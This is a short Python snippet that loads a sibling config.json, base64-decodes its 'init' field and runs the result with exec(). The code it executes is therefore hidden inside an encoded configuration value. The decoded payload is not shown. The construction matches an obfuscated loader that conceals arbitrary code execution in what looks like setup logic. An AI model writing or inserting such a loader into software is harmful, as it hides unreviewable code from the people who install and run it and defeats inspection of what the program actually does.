import os, json, base64
with open(os.path.join(os.path.dirname(__file__), "config.json")) as f:
    cfg = json.load(f)
exec(base64.b64decode(cfg["init"]))
